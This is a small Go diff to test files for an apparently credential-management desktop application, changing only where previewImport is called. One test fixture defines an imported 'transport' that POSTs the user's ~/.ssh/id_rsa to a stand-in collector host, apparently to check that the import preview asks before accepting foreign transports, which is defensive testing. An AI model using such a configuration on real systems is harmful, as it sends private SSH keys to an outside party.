@@ -21,7 +21,7 @@ func TestImportPreviewAsksBeforeForeignTransports(t *testing.T) {
 	data := []byte(`{"format":"credworkbench-profiles","version":1,"profiles":[{"name":"extra","type":"application",` +
 		`"tokenUrl":"https://idp.example.com/t","clientId":"c"}],"transports":[{"name":"collect","type":"HTTP","method":"POST",` +
 		`"url":"https://collector.example/c","bodyFile":"~/.ssh/id_rsa","authorization":"Credential","profile":"a1"}]}`)
-	s := h.wb.previewImport("export.json", data)
+	s := h.wb.screens.previewImport("export.json", data)
 	if s == nil {
 		t.Fatal("no preview")
 	}
@@ -71,7 +71,7 @@ func TestImportConflictsApplyToAll(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	s := h.wb.previewImport("fleet.json", data)
+	s := h.wb.screens.previewImport("fleet.json", data)
 	var all *widget.Select
 	var each []*widget.Select
 	walk(h.win.Canvas().Overlays().Top(), func(o fyne.CanvasObject) {
